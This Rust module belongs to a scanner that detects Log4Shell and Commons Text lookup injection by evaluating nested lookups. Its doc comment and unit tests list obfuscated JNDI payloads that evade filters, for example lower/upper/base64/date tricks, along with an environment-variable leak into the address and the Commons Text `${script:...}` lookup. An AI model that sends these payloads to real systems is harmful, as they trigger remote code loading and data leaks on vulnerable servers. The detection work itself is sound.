//! Lookups of Log4j 2 (CVE-2021-44228) and of Commons Text (CVE-2022-42889).
//!
//! What fires: `${jndi:ldap://host/x}` however it is spelled: nested lookups are evaluated as Log4j's `StrSubstitutor`
//! does, innermost first, so `${${lower:J}ndi:...}`, `${j${any:thing:-n}di:...}` and `${${date:'j'}ndi:..}` come to the
//! same; `${script:javascript:..}` of Commons Text; values cut off before the closing brace. Lookups that only hide
//! single letters, or that read the environment into a host name, fire lower. What must not: `${name}` and `${env:HOME}`
//! of templates and configuration. Source: Log4j 2 manual, "Lookups" and "Property substitution"; CVE-2021-44228,
//! CVE-2021-45046; CWE-917.

use crate::bytes::{Set, Wake};
use crate::detect::beside::Beside;
use crate::detect::lex::find::{find, find_no_case, places};
use crate::detect::{Class, Hit, Hits, Value};

/// Deepest nesting that is evaluated; deeper opens are taken as text.
const DEPTH: usize = 24;
/// Most bytes of evaluated text kept; longer text keeps its end.
const OUT: usize = 512;

/// What opens and closes lookups.
static MARKS: Set = Set::of(b"$}");

/// Protocols that JNDI providers answer to (Java "Naming and Directory" guide, and the URL contexts of the JDK).
static PROTOCOLS: &[&[u8]] = &[
    b"ldap",
    b"ldaps",
    b"rmi",
    b"dns",
    b"iiop",
    b"iiopname",
    b"corbaname",
    b"corbaloc",
    b"corba",
    b"nis",
    b"nds",
    b"http",
    b"https",
    b"java",
];

/// The text as far as it is evaluated, and the `${` still open.
#[derive(Debug)]
struct Evaluator {
    out: [u8; OUT],
    len: usize,
    /// Where in `out` the text behind each open `${` begins, and where in the value it stands.
    open: [(usize, usize); DEPTH],
    depth: usize,
    /// Lookups that came to one letter or two: nobody writes these.
    letters: u8,
    /// Bytes and rescans, for the guard on the work done.
    steps: usize,
}

impl Evaluator {
    fn push(&mut self, b: u8) {
        if self.len == OUT {
            if self.depth > 0 {
                return; // text inside a lookup: its beginning decides
            }
            self.out.copy_within(OUT / 2.., 0);
            self.len = OUT / 2;
        }
        if let Some(slot) = self.out.get_mut(self.len) {
            *slot = b;
            self.len += 1;
        }
    }

    /// As [`push`](Evaluator::push) of each byte of `text`.
    fn extend(&mut self, mut text: &[u8]) {
        while !text.is_empty() {
            if self.len == OUT {
                if self.depth > 0 {
                    return;
                }
                self.out.copy_within(OUT / 2.., 0);
                self.len = OUT / 2;
            }
            let Some((now, rest)) = text.split_at_checked(text.len().min(OUT - self.len)) else { return };
            if let Some(slots) = self.out.get_mut(self.len..self.len + now.len()) {
                slots.copy_from_slice(now);
                self.len += now.len();
            }
            text = rest;
        }
    }

    fn text(&self, from: usize) -> &[u8] {
        self.out.get(from..self.len).unwrap_or_default()
    }

    /// The text behind the outermost open lookup, and where that lookup stands.
    fn outermost(&self) -> Option<(&[u8], usize)> {
        let &(start, from) = self.open.first().filter(|_| self.depth > 0)?;
        Some((self.text(start), from))
    }

    /// Replaces the text of the innermost lookup, which begins at `start`, by what it comes to.
    fn close(&mut self, start: usize) {
        let mut value = [0u8; 64];
        self.steps += self.len.saturating_sub(start);
        let text = self.text(start);
        let n = match lookup(text, &mut value) {
            Some(n) => n,
            None => {
                // Unknown: Log4j leaves it as it stands; braces are kept so that what is around it stays apart.
                return self.push(b'}');
            }
        };
        if n <= 2 {
            self.letters = self.letters.saturating_add(1);
        }
        self.len = start.saturating_sub(2);
        for &b in value.get(..n).unwrap_or_default() {
            self.push(b);
        }
    }
}

/// What a lookup comes to, if that can be known without the server.
fn lookup(text: &[u8], value: &mut [u8; 64]) -> Option<usize> {
    // The first `:-` parts name and default, whatever the name (StrSubstitutor's value delimiter).
    let delimiter = find(text, b":-");
    let colon = memchr::memchr(b':', text);
    if let Some(colon) = colon.filter(|c| delimiter.is_none_or(|d| *c < d)) {
        let (prefix, argument) = (text.get(..colon)?, text.get(colon + 1..)?);
        if prefix.eq_ignore_ascii_case(b"lower") {
            return fill(value, argument, |b| b.to_ascii_lowercase());
        }
        if prefix.eq_ignore_ascii_case(b"upper") {
            // U+0131, dotless i: its upper case is the letter I.
            let argument = if argument == "\u{131}".as_bytes() { b"i" } else { argument };
            return fill(value, argument, |b| b.to_ascii_uppercase());
        }
        if prefix.eq_ignore_ascii_case(b"base64") {
            return base64(argument, value);
        }
        if prefix.eq_ignore_ascii_case(b"date") && argument.is_empty() {
            return Some(0);
        }
        if prefix.eq_ignore_ascii_case(b"date") && argument.len() > 2 && argument.len() < 12 {
            // SimpleDateFormat: text in quotes stands for itself.
            let inner = argument.strip_prefix(b"'")?.strip_suffix(b"'")?;
            return fill(value, inner, |b| b);
        }
    }
    let default = text.get(delimiter? + 2..)?;
    fill(value, default, |b| b)
}

/// Log4j's lookup of base64 text.
fn base64(text: &[u8], value: &mut [u8; 64]) -> Option<usize> {
    let (mut bits, mut held, mut len) = (0u32, 0u32, 0);
    for b in text {
        let sign = match b {
            b'A'..=b'Z' => b - b'A',
            b'a'..=b'z' => b - b'a' + 26,
            b'0'..=b'9' => b - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            b'=' => break,
            _ => return None,
        };
        (bits, held) = (bits << 6 | u32::from(sign), held + 6);
        if held >= 8 {
            held -= 8;
            *value.get_mut(len)? = (bits >> held) as u8;
            len += 1;
        }
    }
    Some(len)
}

fn fill(value: &mut [u8; 64], text: &[u8], each: impl Fn(u8) -> u8) -> Option<usize> {
    let slots = value.get_mut(..text.len())?;
    for (slot, b) in slots.iter_mut().zip(text) {
        *slot = each(*b);
    }
    Some(text.len())
}

/// Judges one value.
pub(super) fn judge(value: &Value<'_>, hits: &mut Hits) {
    let bytes = value.bytes;
    // Every lookup that tells anything has a colon behind its name.
    let opens = value.wake.all(Wake::BRACE.or(Wake::DOLLAR).or(Wake::COLON));
    let first = if opens { find(bytes, b"${") } else { None };
    let Some(first) = first else {
        if value.wake.all(Wake::COLON.or(Wake::SLASH))
            && value.wake.any(Wake::BRACE.or(Wake::AMPERSAND).or(Wake::PERCENT).or(Wake::DOLLAR))
            && value.may_hold(Beside::JNDI)
            && let Some(hit) = unopened(bytes)
        {
            hits.push(hit);
        }
        return;
    };
    if !may_tell(bytes.get(first..).unwrap_or_default(), value.may_hold(Beside::JNDI)) {
        return;
    }
    let mut e = Evaluator { out: [0; OUT], len: 0, open: [(0, 0); DEPTH], depth: 0, letters: 0, steps: 0 };
    if let Some(hit) = run(bytes, first, &mut e) {
        hits.push(hit);
    }
}

/// Whether lookups in `bytes` could come to anything: where none is closed none is evaluated, and only what names JNDI as it
/// stands does, if that is `named` at all.
fn may_tell(bytes: &[u8], named: bool) -> bool {
    let names = |colon: usize| is_jndi(bytes, colon);
    memchr::memchr(b'}', bytes).is_some() || named && places(bytes, b':').any(names)
}

/// Whether `jndi` stands before `colon`.
fn is_jndi(bytes: &[u8], colon: usize) -> bool {
    let name = colon.checked_sub(4).and_then(|at| bytes.get(at..colon));
    name.is_some_and(|name| name.eq_ignore_ascii_case(b"jndi"))
}

/// `jndi:ldap://..` behind an opener that only another decoder would read (`$&lbrace;`, `%7B` twice encoded, a brace
/// without its dollar): the address alone is of no use to anything but a lookup.
fn unopened(bytes: &[u8]) -> Option<Hit> {
    // PERF: in text a colon is rarer than a letter.
    let at = places(bytes, b':').find(|colon| is_jndi(bytes, *colon))? - 4;
    let rest = bytes.get(at + 5..)?;
    let rest = rest.get(..24).unwrap_or(rest);
    let opened = bytes.get(at.saturating_sub(12)..at)?.iter().any(|b| matches!(b, b'$' | b'&' | b'{' | b'%'));
    (protocol(rest) && find(rest, b":/").is_some() && opened).then(|| {
        jndi(
            72,
            at..bytes.len().min(at + 64),
            "a JNDI lookup whose opening is spelt so that a filter reads past it",
        )
    })
}

fn run(bytes: &[u8], first: usize, e: &mut Evaluator) -> Option<Hit> {
    let mut at = first;
    let mut best: Option<Hit> = None;
    let mut marks = MARKS.places(bytes);
    while let Some(&b) = bytes.get(at) {
        e.steps += 1;
        match b {
            b'$' if bytes.get(at + 1) == Some(&b'{') => {
                if e.depth > 0 && e.len + 128 > OUT {
                    // The text around is too long to keep: judge what it is so far, and begin again with this lookup.
                    if let Some(hit) =
                        e.outermost().and_then(|(text, from)| names_jndi(text, from..at, false))
                    {
                        return Some(hit);
                    }
                    (e.len, e.depth) = (0, 0);
                }
                e.push(b'$');
                e.push(b'{');
                if let Some(slot) = e.open.get_mut(e.depth) {
                    *slot = (e.len, at);
                    e.depth += 1;
                }
                at += 1;
            }
            b'}' if e.depth > 0 => {
                e.depth -= 1;
                let (start, from) = e.open.get(e.depth).copied().unwrap_or_default();
                if let Some(hit) = names_jndi(e.text(start), from..at + 1, true) {
                    return Some(hit);
                }
                if e.letters > 0 && is_address(e.text(start)) {
                    return Some(jndi(
                        80,
                        from..at + 1,
                        "nested lookups stand where Log4j would read the name of a lookup",
                    ));
                }
                if best.is_none() {
                    best = other_lookup(e.text(start), from..at + 1);
                }
                e.close(start);
            }
            _ => {
                marks.skip_to(at + 1);
                let next = marks.next().unwrap_or(bytes.len());
                e.extend(bytes.get(at..next).unwrap_or_default());
                e.steps += next - at - 1;
                at = next - 1;
            }
        }
        at += 1;
    }
    // Never closed: cut off, or closed in a part that is not shown.
    for &(start, from) in e.open.iter().take(e.depth) {
        if let Some(hit) = names_jndi(e.text(start), from..bytes.len(), false) {
            return Some(hit);
        }
    }
    // A lookup may leave `${` or `{jndi:` behind, which a second pass of substitution reads.
    let text = e.text(0);
    if let Some(at) = find_no_case(text, b"{jndi:")
        && protocol(text.get(at + 6..).unwrap_or_default())
    {
        return Some(jndi(84, first..bytes.len(), "what the lookups leave behind is a JNDI lookup again"));
    }
    let spelled = e.letters >= 2 && text.windows(3).any(|w| w == b":/" || w.starts_with(b":/"));
    if spelled {
        return Some(jndi(80, first..bytes.len(), "nested lookups spell out single letters of an address"));
    }
    best
}

fn jndi(confidence: u8, span: std::ops::Range<usize>, reason: &'static str) -> Hit {
    Hit { class: Class::Rce, technique: "log4shell", confidence, span, reason: reason.into() }
}

/// Whether evaluated text is a lookup of JNDI.
fn names_jndi(text: &[u8], span: std::ops::Range<usize>, closed: bool) -> Option<Hit> {
    let rest = strip_no_case(text, b"jndi")?;
    let rest = rest.strip_prefix(b":")?;
    let confidence = match (protocol(rest), closed) {
        (true, true) => 99,
        (true, false) => 92,
        (false, true) => 86,
        (false, false) => 70,
    };
    Some(jndi(
        confidence,
        span,
        "Log4j would resolve this lookup through JNDI and load code from the address",
    ))
}

/// `name:ldap:/..`, whatever the name is.
fn is_address(text: &[u8]) -> bool {
    let name = text.iter().take(8).take_while(|b| b.is_ascii_alphanumeric()).count();
    name > 2 && text.get(name) == Some(&b':') && protocol(text.get(name + 1..).unwrap_or_default())
}

fn strip_no_case<'a>(text: &'a [u8], prefix: &[u8]) -> Option<&'a [u8]> {
    let (head, rest) = text.split_at_checked(prefix.len())?;
    head.eq_ignore_ascii_case(prefix).then_some(rest)
}

fn protocol(rest: &[u8]) -> bool {
    let rest = rest.trim_ascii_start();
    let n = rest.iter().take_while(|b| b.is_ascii_alphanumeric()).count();
    let name = rest.get(..n).unwrap_or_default();
    let slash = matches!(rest.get(n..), Some([b':', ..]) | Some([b'/', ..]));
    slash && PROTOCOLS.iter().any(|p| p.eq_ignore_ascii_case(name))
}

/// Lookups that are dangerous by themselves, or that only probes send.
fn other_lookup(text: &[u8], span: std::ops::Range<usize>) -> Option<Hit> {
    let colon = memchr::memchr(b':', text)?;
    let (prefix, argument) = (text.get(..colon)?, text.get(colon + 1..)?);
    let is = |name: &[u8]| prefix.eq_ignore_ascii_case(name);
    let (confidence, reason) = if is(b"script") && memchr::memchr(b':', argument).is_some() {
        (94, "Commons Text would run this script lookup")
    } else if is(b"url") && find(argument, b"://").is_some() {
        (72, "Commons Text would fetch this address")
    } else if is(b"dns") && memchr::memchr(b'.', argument).is_some() {
        (66, "Commons Text would resolve this host")
    } else if is(b"java") && matches!(argument, b"version" | b"runtime" | b"vm" | b"os" | b"hw" | b"locale") {
        (62, "a Log4j lookup that tells the Java version: the usual probe before JNDI")
    } else if is(b"sys")
        && (argument.starts_with(b"java.") || argument.starts_with(b"os.") || argument.starts_with(b"user."))
    {
        (52, "a Log4j lookup of a system property")
    } else {
        return None;
    };
    Some(Hit { class: Class::Rce, technique: "lookup-injection", confidence, span, reason: reason.into() })
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn confidence(text: &str) -> u8 {
        let mut e =
            Evaluator { out: [0; OUT], len: 0, open: [(0, 0); DEPTH], depth: 0, letters: 0, steps: 0 };
        let first = text.find("${").unwrap_or(text.len());
        run(text.as_bytes(), first, &mut e).filter(|h| h.technique == "log4shell").map_or(0, |h| h.confidence)
    }

    #[test]
    fn nested_lookups_come_to_what_log4j_makes_of_them() {
        for text in [
            "${jndi:ldap://a.example/x}",
            "x ${JnDi:RMI://a.example/x} y",
            "${${lower:JN}${upper:d}i:dns:/a.example}",
            "${j${k8s:none:-n}${date:'d'}i:ldap://a.example/${env:USER}}",
            "${jnd${upper:\u{131}}:ldap://a.example}",
            "${${::-${::-j}}ndi:ldap://a.example}",
            "${jndi:${lower:L}dap://a.example}",
            "${${base64:ak5E}i:ldap://a.example}",
            "${jnd${date:}i:ldap://a.example}",
        ] {
            assert_eq!(confidence(text), 99, "{text}");
        }
        assert!(confidence("${jndi:ldap://a.example/x") >= 90);
        for text in [
            "${jndiProvider}",
            "${name:-jndi}",
            "${lower:jndi} is a word",
            "{jndi:ldap://x}",
            "${env:HOME}/x",
        ] {
            assert_eq!(confidence(text), 0, "{text}");
        }
    }

    #[test]
    fn work_is_linear() {
        for part in ["${", "${a:-", "}", "${lower:x}", "${${}", "$", "${jndi", "}${::-a"] {
            let text = part.repeat((1 << 20) / part.len());
            let mut e =
                Evaluator { out: [0; OUT], len: 0, open: [(0, 0); DEPTH], depth: 0, letters: 0, steps: 0 };
            run(text.as_bytes(), 0, &mut e);
            assert!(e.steps <= 8 * text.len(), "{part}: {} steps", e.steps);
        }
    }

    proptest! {
        #[test]
        fn any_bytes_can_be_judged(bytes in prop::collection::vec(
            prop_oneof![any::<u8>(), prop::sample::select(&b"${}:-'jndiloweruper/"[..])], 0..400)) {
            let mut e = Evaluator { out: [0; OUT], len: 0, open: [(0, 0); DEPTH], depth: 0, letters: 0, steps: 0 };
            run(&bytes, 0, &mut e);
        }

        #[test]
        fn what_is_not_evaluated_would_tell_nothing(
            parts in prop::collection::vec(prop_oneof![
                4 => prop::sample::select(&["${", "$", "{", "jndi", "JNDI", "j", "ndi:", ":", "ldap://x", ":/", "lower:", "::-", "a"][..])
                    .prop_map(str::to_owned),
                1 => "[a-z ]{100,300}",
            ], 0..40),
            closed in prop::option::of(any::<prop::sample::Index>()),
        ) {
            let mut text = parts.concat();
            if let Some(at) = closed.filter(|_| !text.is_empty()) {
                text.insert(at.index(text.len()), '}');
            }
            let Some(first) = text.find("${") else { return Ok(()) };
            let mut e = Evaluator { out: [0; OUT], len: 0, open: [(0, 0); DEPTH], depth: 0, letters: 0, steps: 0 };
            let hit = run(text.as_bytes(), first, &mut e);
            prop_assert!(hit.is_none() || may_tell(&text.as_bytes()[first..], true), "{text}");
        }
    }
}
